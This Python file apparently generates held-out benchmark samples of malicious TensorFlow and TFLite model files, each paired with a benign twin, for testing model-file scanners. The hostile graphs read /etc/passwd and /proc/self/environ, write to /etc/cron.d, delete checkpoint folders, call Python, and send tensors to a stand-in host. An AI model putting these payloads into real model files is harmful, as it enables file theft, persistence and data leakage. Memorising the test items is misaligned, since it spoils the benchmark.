"""Attacks by TensorFlow graphs: operators that touch files, call Python or talk to hosts, in each of the protocol buffers."""

from __future__ import annotations

import struct
from collections.abc import Iterator

from bench.modelfiles.heldout.parts import Flat, field, flatbuffer
from bench.modelfiles.heldout.sample import Group, Sample

group = Group("graphs")
STRING, FLOAT = 7, 1


def attribute(key: str, value: bytes) -> bytes:
    """Return an entry of a node's attributes."""
    return field(5, field(1, key) + field(2, value))


def node(name: str, operator: str, inputs: tuple[str, ...] = (), *attributes: bytes) -> bytes:
    """Return a NodeDef."""
    return field(1, name) + field(2, operator) + field(3, *inputs) + b"".join(attributes)


def constant(name: str, value: str) -> bytes:
    """Return a node that holds text."""
    tensor = field(1, STRING) + field(2, b"") + field(8, value)
    return node(name, "Const", (), attribute("dtype", field(6, STRING)), attribute("value", field(8, tensor)))


def graph(*nodes: bytes, library: tuple[bytes, ...] = ()) -> bytes:
    """Return a GraphDef; functions of the library are written with their nodes."""
    functions = field(2, b"".join(field(1, one) for one in library)) if library else b""
    return field(1, *nodes) + functions + field(4, field(1, 1395))


def function(name: str, *nodes: bytes) -> bytes:
    """Return a FunctionDef."""
    return field(1, field(1, name)) + field(3, *nodes)


def meta(graph_def: bytes, more: bytes = b"") -> bytes:
    """Return a MetaGraphDef."""
    return field(1, field(4, "serve") + field(5, "2.19.0")) + field(2, graph_def) + more


def saved(graph_def: bytes) -> bytes:
    """Return a SavedModel."""
    return field(1, 1) + field(2, meta(graph_def))


WEIGHT = node("w", "VarHandleOp", (), attribute("shared_name", field(2, "w")), attribute("dtype", field(6, FLOAT)))
RELU = node("y", "Relu", ("x",), attribute("T", field(6, FLOAT)))
INPUT = node("x", "Placeholder", (), attribute("dtype", field(6, FLOAT)))
SERVED = "tf.saved_model.load, and the signature runs it"


def operators() -> Iterator[Sample]:
    """Yield one graph for each kind of operator."""
    name = constant("f", "/tmp/x/authorized"), constant("f", "serving default")
    plain = graph(INPUT, name[1], RELU)
    token = attribute("token", field(2, "pyfunc_0"))
    inner = function("__inference_call", name[0], node("z", "WriteFile", ("f:output:0", "f:output:0")))
    good = function("__inference_call", name[1], node("z", "Tanh", ("x",)))
    called = node("p", "StatefulPartitionedCall", ("x",), attribute("f", field(10, field(1, "__inference_call"))))

    def stream(where: str) -> bytes:
        return attribute("output_stream", field(2, where))

    def urls(*all_: str) -> bytes:
        return attribute("debug_urls", field(1, field(2, *all_)))

    def region(where: str) -> bytes:
        return attribute("memory_region_name", field(2, where))

    text = 'node {{\n  name: "f"\n  op: "Const"\n  attr {{ key: "value" value {{ tensor {{ dtype: DT_STRING string_val: "{}" }} }} }}\n}}\nnode {{ name: "z" op: "{}" input: "f" input: "f" }}\n'
    yield from group.pairs(
        ("write-file", "saved_model.pb", saved(graph(*name[:1], constant("c", "text"), node("z", "WriteFile", ("f", "c")), RELU)), saved(plain),
         f"{SERVED}: it writes a file"),
        ("read-file", "a/saved_model.pb", saved(graph(constant("f", "/etc/hostname"), node("z", "ReadFile", ("f",)))),
         saved(graph(name[1], node("z", "StringLower", ("f",)))), f"{SERVED}: it returns the content of a local file"),
        ("eager-py-func", "b/saved_model.pb", saved(graph(INPUT, node("z", "EagerPyFunc", ("x",), token))),
         saved(graph(INPUT, node("z", "Sigmoid", ("x",), attribute("T", field(6, FLOAT))))), f"{SERVED}: it calls a Python function of the process"),
        ("function-library", "c/saved_model.pb", saved(graph(INPUT, called, library=(inner,))), saved(graph(INPUT, called, library=(good,))),
         f"{SERVED}: the operator lies in a function"),
        ("print-file", "frozen.pb", graph(name[0], node("z", "PrintV2", ("f",), stream("file:///tmp/x/log"))),
         graph(name[1], node("z", "PrintV2", ("f",), stream("stderr"))), "import_graph_def, and a session: PrintV2 appends to a file"),
        ("debug-url", "model.meta", meta(graph(INPUT, node("z", "DebugIdentityV2", ("x",), urls("grpc://example.com:6064")))),
         meta(graph(INPUT, node("z", "Identity", ("x",)))), "import_meta_graph, and a session: the values of tensors go to a host"),
        ("save-slices", "d/saved_model.pb",
         saved(graph(constant("f", "/etc/cron.d/x"), constant("n", "w"), node("z", "SaveV2", ("f", "n", "n", "w")), WEIGHT)),
         saved(graph(constant("f", "part"), constant("n", "w"), node("g", "ShardedFilename", ("f",)), node("r", "RestoreV2", ("g", "n", "n")), WEIGHT)),
         f"{SERVED}: SaveV2 writes to a fixed absolute path"),
        ("merge-checkpoints", "e/saved_model.pb",
         saved(graph(constant("f", "/tmp/x/*"), node("z", "MergeV2Checkpoints", ("f", "f"), attribute("delete_old_dirs", field(5, 1))))),
         saved(graph(name[1], node("z", "StringJoin", ("f", "f")))), f"{SERVED}: it removes the folders of old checkpoints at any path"),
        ("text-table", "f/saved_model.pb",
         saved(graph(constant("f", "/etc/passwd"), node("t", "HashTableV2"), node("z", "InitializeTableFromTextFileV2", ("t", "f")))),
         saved(graph(constant("f", "cat"), node("t", "HashTableV2"), node("z", "LookupTableImportV2", ("t", "f", "f")))),
         f"{SERVED}: a table is filled from a local file"),
        ("immutable-const", "mapped.pb", graph(node("z", "ImmutableConst", (), region("/proc/self/environ"))), graph(constant("z", "value")),
         "import_graph_def, and a session: the tensor is a mapped file"),
        ("data-service", "g/saved_model.pb", saved(graph(constant("f", "grpc://example.com:5000"), node("z", "DataServiceDatasetV4", ("f", "f", "f")))),
         saved(graph(constant("f", "value"), node("z", "TensorSliceDataset", ("f",)))), f"{SERVED}: it asks a host for data"),
        ("save-dataset", "h/saved_model.pb", saved(graph(constant("f", "/tmp/x/d"), node("z", "SaveDatasetV2", ("d", "f")))),
         saved(graph(name[1], node("z", "BatchDatasetV2", ("f",)))), f"{SERVED}: it writes a dataset to a path"),
        ("text-graph", "graph.pbtxt", text.format("/tmp/x", "WriteFile"), text.format("a", "StringJoin"),
         "text_format.Parse and a session run the graph: it writes a file"),
        ("summary-writer", "i/saved_model.pb",
         saved(graph(constant("f", "/tmp/x"), node("s", "SummaryWriter"), node("z", "CreateSummaryFileWriter", ("s", "f", "f", "f", "f")))),
         saved(graph(constant("f", "loss"), node("z", "ScalarSummary", ("f", "x")), INPUT)), f"{SERVED}: it creates files of events anywhere"),
    )  # fmt: skip


def lite(code: Flat, *, strings: str = "model", buffers: tuple[bytes, ...] = ()) -> bytes:
    """Return a TFLite file with one operator."""
    graph_: Flat = {0: [{0: [1, 4], 3: "x"}], 1: [0], 2: [0], 3: [{0: 0, 1: [0], 2: [0]}], 4: "main"}
    return flatbuffer({0: 3, 1: [code], 2: [graph_], 3: strings, 4: [{}, *({0: one} for one in buffers)]}, b"TFL3")


def small() -> Iterator[Sample]:
    """Yield TFLite files."""
    relu: Flat = {0: 19, 3: 19}
    past = lite({0: 19, 3: 19}, strings="x")
    broken = struct.pack("<I", 0x7FFFFFF0) + past[4:]
    yield from group.pairs(
        ("flex", "model.tflite", lite({0: 32, 1: "FlexWriteFile", 3: 32}), lite({0: 32, 1: "FlexErf", 3: 32}),
         "with the Flex delegate, the interpreter runs WriteFile of TensorFlow"),
        ("lite-py-func", "net.tflite", lite({0: 32, 1: "FlexEagerPyFunc", 3: 32}), lite({0: 32, 1: "TFLite_Detection_PostProcess", 3: 32}),
         "the interpreter calls a function of Python"),
        ("lite-offset", "tiny.tflite", broken, lite(relu), "the interpreter follows an offset out of the file, if nothing verifies it"),
    )  # fmt: skip


def samples() -> Iterator[Sample]:
    """Yield the samples of this class that belong to TensorFlow."""
    yield from (*operators(), *small())
